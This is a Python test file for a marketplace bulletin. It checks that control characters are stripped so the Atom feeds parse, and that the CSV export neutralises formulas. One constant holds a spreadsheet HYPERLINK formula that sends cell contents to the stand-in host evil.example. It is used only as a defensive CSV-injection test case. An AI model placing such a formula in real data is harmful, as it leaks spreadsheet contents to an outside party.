"""The bulletin's Atom feed stays parseable whatever was typed (control characters are stripped at input, and at
output for editions stored before), and its CSV cannot carry a formula into a spreadsheet."""

from __future__ import annotations

import csv
import io
from datetime import date, datetime
from xml.etree import ElementTree as ET

from market.accounts.models import Role
from market.api.auth import issue_token
from market.needs import bulletin
from market.needs.models import Need
from tests.conftest import NOW
from tests.factories import make_asset

ATOM = {"a": "http://www.w3.org/2005/Atom"}
HOSTILE = '=HYPERLINK("http://evil.example/?d="&A1,"详情")'


def _published_edition(session, when: datetime):
    return bulletin.publish_bulletin(session, when, until=when.date())


def test_control_characters_are_stripped_at_input_and_every_atom_feed_parses(app, client, session, factory, kit):
    ent, staff = factory.user(Role.ENTERPRISE), factory.user(Role.STAFF)
    assets = [make_asset(kit.session, ent.organisation)]
    _t, secret = issue_token(session, ent, "test", "read write", NOW)
    _t, staff_secret = issue_token(session, staff, "test", "read write", NOW)
    r = client.post("/api/v1/needs", headers={"Authorization": f"Bearer {secret}"}, json={
        "title": "扩产\x1b计划", "amount": "3000000.00", "term_months": 12, "purpose": "购置\x0b涂布\x0c设备\x1b",
        "max_rate": "0.06", "asset_ids": [a.id for a in assets], "submit": True})
    assert r.status_code == 201, r.json
    assert (r.json["title"], r.json["purpose"]) == ("扩产计划", "购置涂布设备")
    r = client.post(f"/api/v1/needs/{r.json['id']}/review", headers={"Authorization": f"Bearer {staff_secret}"},
                    json={"approve": True, "checklist": {"identity": True, "assets": True, "terms": True,
                                                         "purpose": True}})
    assert r.status_code == 200, r.json
    # A need stored before input was cleaned (written here past the request, as old data is).
    legacy = kit.published_need(title="旧需求", purpose="旧\x0b数据\x1b")
    for need in session.query(Need).filter(Need.id.in_([r.json["id"], legacy.id])):
        need.published_at = datetime(2031, 1, 6, 9)
    edition = _published_edition(session, datetime(2031, 1, 7, 1))
    session.commit()

    feeds = [rule.rule for rule in app.url_map.iter_rules() if rule.rule.endswith(".atom")]
    assert feeds, "no Atom feed found"
    for rule in feeds:
        path = rule.replace("<int:number>", str(edition.number))
        response = client.get(path)
        assert response.status_code == 200, path
        root = ET.fromstring(response.data)  # expat: refuses any character XML does not allow
        summaries = [e.find("a:summary", ATOM).text for e in root.findall("a:entry", ATOM)]
        assert any("购置涂布设备" in s for s in summaries) and any("旧数据" in s for s in summaries), summaries


def test_web_form_text_is_stripped_of_control_characters(client, session, login_as):
    user = login_as(Role.ENTERPRISE)
    org = user.organisation
    response = client.post("/organisation/", data={
        "org_name": org.name, "credit_code": org.credit_code, "district_code": org.district_code,
        "industry_code": "38", "contact_name": "王\x0b五", "address": "渝北区\x1b\x7f金开大道\x85"})
    body = response.get_data(as_text=True)
    assert response.status_code == 302, [line for line in body.splitlines() if "error" in line or "flash" in line]
    session.refresh(org)
    assert (org.contact_name, org.address) == ("王五", "渝北区金开大道")


def test_bulletin_csv_neutralises_formulas(client, session, kit):
    need = kit.published_need(title=HOSTILE)
    need.published_at = datetime(2031, 2, 3, 9)
    edition = bulletin.publish_bulletin(session, datetime(2031, 2, 4, 1), until=date(2031, 2, 4))
    session.commit()
    text = client.get(f"/bulletins/{edition.number}.csv").get_data().decode("utf-8-sig")
    rows = {row["need_id"]: row for row in csv.DictReader(io.StringIO(text))}
    assert rows[str(need.id)]["title"] == "'" + HOSTILE
    assert rows[str(need.id)]["amount"] == "3000000.00"  # numbers are untouched
